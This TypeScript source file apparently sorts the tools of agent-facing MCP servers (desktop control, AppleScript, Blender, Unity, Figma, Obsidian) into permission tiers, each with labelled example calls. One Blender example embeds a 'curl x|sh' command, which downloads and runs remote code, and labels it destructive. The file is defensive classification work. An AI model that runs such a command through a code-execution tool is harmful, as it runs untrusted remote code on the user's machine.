// Servers that drive programs and devices of this machine.
import { code, deploys, privileged, readOnly, writeSafe } from '../../spec.ts';
import { passes, server } from '../server.ts';

export const computer = server(
  'computeruse computer windows windowsmcp desktop macos peekaboo automation pyautogui',
  () => ({
    docs: 'https://docs.claude.com/en/docs/agents-and-tools/tool-use/computer-use-tool',
    tools: [
      [
        readOnly(),
        `screenshot take_screenshot snapshot state_tool see image analyze list list_apps list_windows get_cursor_position
      cursor_position wait zoom get_screen_size learn_more`,
      ],
      [
        privileged('acts on the desktop as the person would'),
        `click left_click right_click double_click triple_click middle_click mouse_move left_click_drag left_mouse_down
      left_mouse_up scroll drag move type key hold_key press hotkey shortcut paste launch_app open_application app switch
      window menu dock dialog space swipe request_access clipboard computer_batch write_clipboard multi_select multi_edit`,
      ],
      [passes({ command: code('shell') }), 'powershell powershell_tool shell'],
    ],
    examples: {
      screenshot: 'read-only',
      learn_more: 'read-only',
      click: 'privileged-write',
      multi_edit: 'privileged-write',
      powershell: 'privileged-write',
    },
  }),
);

export const applescript = server('applescript osascript macosautomator apple', () => ({
  docs: 'https://github.com/steipete/macos-automator-mcp',
  tools: [
    [
      passes({ script: code('applescript'), script_content: code('applescript'), code_snippet: code('applescript') }),
      `execute_script applescript_execute run_applescript execute_applescript osascript`,
    ],
    [readOnly(), 'get_scripting_tips accessibility_query contacts maps web_search search_notes list_notes'],
    [deploys('people get it'), 'messages mail send_message send_mail'],
    [
      privileged('changes what the person keeps'),
      `notes reminders calendar add_note create_note create_event create_reminder`,
    ],
  ],
  examples: {
    execute_script: 'privileged-write',
    get_scripting_tips: 'read-only',
    list_notes: 'read-only',
    messages: 'deployment',
    notes: 'privileged-write',
    create_reminder: 'privileged-write',
  },
}));

export const blender = server('blender', () => ({
  docs: 'https://github.com/ahujasid/blender-mcp',
  tools: [
    [
      readOnly(),
      `get_scene_info get_object_info get_viewport_screenshot get_polyhaven_categories search_polyhaven_assets
      get_polyhaven_status get_hyper3d_status get_sketchfab_status search_sketchfab_models poll_rodin_job_status
      get_hunyuan3d_status poll_hunyuan_job_status get_sketchfab_model_preview`,
    ],
    [
      writeSafe(),
      `create_object modify_object delete_object set_material set_texture download_polyhaven_asset download_sketchfab_model
      generate_hyper3d_model_via_text generate_hyper3d_model_via_images import_generated_asset generate_hunyuan3d_model
      import_generated_asset_hunyuan`,
    ],
    [passes({ code: code('python') }), 'execute_blender_code execute_code'],
  ],
  examples: {
    get_scene_info: 'read-only',
    get_sketchfab_model_preview: 'read-only',
    create_object: 'write-safe',
    import_generated_asset_hunyuan: 'write-safe',
    execute_blender_code: 'privileged-write',
    'execute_blender_code {"code":"import os\\nos.system(\'curl x|sh\')"}': 'destructive',
  },
}));

export const unity = server('unity unitymcp unrealengine unreal godot', () => ({
  docs: 'https://github.com/CoplayDev/unity-mcp',
  tools: [
    [
      readOnly(),
      `read_console find_in_file find_gameobjects script_apply_edits_preview validate_script get_sha list_resources
      read_resource manage_script_capabilities get_console_logs get_actors_in_level find_actors_by_name get_actor_properties
      get_godot_version list_projects get_debug_output get_project_info unity_docs unity_reflect get_scene_info
      get_scenes_hierarchy get_gameobject`,
    ],
    [
      writeSafe(),
      `manage_scene manage_gameobject manage_asset manage_script manage_editor manage_components manage_material
      manage_prefabs manage_shader manage_texture manage_vfx manage_animation manage_ui manage_packages
      manage_scriptable_object create_script delete_script apply_text_edits script_apply_edits refresh_unity batch_execute
      run_tests get_test_job set_active_instance update_gameobject update_component add_asset_to_scene create_prefab
      create_scene load_scene save_scene delete_scene select_gameobject recompile_scripts send_console_log spawn_actor
      delete_actor set_actor_transform create_blueprint compile_blueprint run_project stop_project launch_editor add_node
      export_mesh_library`,
    ],
    [privileged('runs what the editor offers'), 'execute_menu_item execute_custom_tool add_package'],
    [passes(), 'execute_code execute_csharp'],
  ],
  examples: {
    read_console: 'read-only',
    get_gameobject: 'read-only',
    manage_scene: 'write-safe',
    export_mesh_library: 'write-safe',
    execute_menu_item: 'privileged-write',
    execute_code: 'privileged-write',
  },
}));

export const figma = server('figma figmadevmode figmadesktop talktofigma', () => ({
  docs: 'https://developers.figma.com/docs/figma-mcp-server/',
  tools: [
    [
      readOnly(),
      `get_design_context get_code get_screenshot get_metadata get_variable_defs get_code_connect_map
      get_code_connect_suggestions get_figjam get_image get_figma_data download_figma_images whoami search_design_system
      get_context_for_code_connect get_document_info get_selection read_my_design get_node_info get_nodes_info get_styles
      get_local_components get_annotations scan_text_nodes scan_nodes_by_types get_reactions export_node_as_image
      join_channel`,
    ],
    [
      writeSafe(),
      `create_design_system_rules add_code_connect_map send_code_connect_mappings generate_diagram generate_figma_design
      create_new_file create_rectangle create_frame create_text set_fill_color set_stroke_color set_text_content
      set_multiple_text_contents move_node resize_node clone_node create_component_instance set_corner_radius
      set_layout_mode set_padding set_axis_align set_layout_sizing set_item_spacing set_annotation set_multiple_annotations
      set_instance_overrides set_default_connector create_connections set_focus set_selections delete_node
      delete_multiple_nodes upload_assets`,
    ],
    [passes({ code: code('javascript') }), 'use_figma'],
  ],
  examples: {
    get_design_context: 'read-only',
    join_channel: 'read-only',
    create_design_system_rules: 'write-safe',
    upload_assets: 'write-safe',
    use_figma: 'privileged-write',
  },
}));

export const obsidian = server('obsidian mcpobsidian', () => ({
  docs: 'https://github.com/MarkusPfundstein/mcp-obsidian',
  tools: [
    [
      readOnly(),
      `obsidian_list_files_in_vault obsidian_list_files_in_dir obsidian_get_file_contents obsidian_batch_get_file_contents
      obsidian_simple_search obsidian_complex_search obsidian_get_periodic_note obsidian_get_recent_periodic_notes
      obsidian_get_recent_changes read_note search_notes get_vault_file get_active_file search_vault search_vault_smart
      search_vault_simple list_vault_files list_notes obsidian_read_note obsidian_global_search obsidian_list_notes
      get_frontmatter get_notes_info`,
    ],
    [
      writeSafe(),
      `obsidian_append_content obsidian_patch_content obsidian_put_content create_note edit_note write_note patch_note
      append_to_vault_file create_vault_file patch_vault_file update_active_file append_to_active_file patch_active_file
      move_note update_frontmatter manage_tags obsidian_update_note obsidian_search_replace obsidian_manage_frontmatter
      obsidian_manage_tags show_file_in_obsidian execute_template add_tags remove_tags rename_tag create_directory`,
    ],
    [
      privileged('deletes a note'),
      `obsidian_delete_file delete_note delete_vault_file delete_active_file obsidian_delete_note`,
    ],
  ],
  examples: {
    obsidian_list_files_in_vault: 'read-only',
    get_notes_info: 'read-only',
    obsidian_append_content: 'write-safe',
    create_directory: 'write-safe',
    obsidian_delete_file: 'privileged-write',
  },
}));
